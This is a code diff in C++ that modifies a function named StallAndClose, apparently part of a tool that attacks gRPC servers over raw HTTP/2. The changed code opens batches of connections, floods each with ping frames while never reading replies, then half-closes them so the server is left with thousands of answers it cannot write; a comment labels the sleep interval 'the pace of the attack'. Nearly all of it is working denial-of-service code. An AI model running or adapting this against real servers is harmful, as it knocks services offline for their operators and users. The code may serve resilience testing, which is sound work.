@@ -423,22 +423,24 @@ void ResetAndClose(const Target& target, const std::string& method) {
 }
 
 // Opens connections whose answers it does not read, says that nothing more comes, and keeps them.
-// gRPC keeps up to 10,000 answers of each, and cannot finish its write.
+// They bring pings until the server reads no more: gRPC has 10,000 answers to write, and cannot.
 void StallAndClose(const Target& target) {
   RaiseDescriptorLimit();
   OnThreads(4, [&](int, const Begun& begun) {
-    // How many connections later one goes on: earlier, it would have sent too much at once.
-    constexpr std::size_t kLater = 40;
+    constexpr std::size_t kAtOnce = 32;
+    constexpr int kTurns = 60;
     for (std::deque<RawHttp2> closed;;) {
-      closed.emplace_back(target.socket, 65535).SendSettings(4500);
-      if (closed.size() > kLater) {
-        RawHttp2& earlier = closed[closed.size() - 1 - kLater];
-        earlier.SendSettings(4500);
-        earlier.SendNoMore();
+      const std::size_t first = closed.size();
+      for (std::size_t i = 0; i < kAtOnce; ++i) closed.emplace_back(target.socket, 65535);
+      for (int turn = 0; turn < kTurns; ++turn) {
+        for (std::size_t i = first; i < closed.size(); ++i) {
+          if (closed[i].unsent() == 0) closed[i].SendPings(1000);
+        }
+        std::this_thread::sleep_for(std::chrono::milliseconds(10));  // the pace of the attack
       }
-      std::this_thread::sleep_for(std::chrono::milliseconds(1));  // the pace of the attack
-      if (closed.size() > 750) begun();
-      if (closed.size() > 1000) closed.pop_front();
+      for (std::size_t i = first; i < closed.size(); ++i) closed[i].SendNoMore();
+      begun();
+      while (closed.size() > 1000) closed.pop_front();
     }
   });
 }
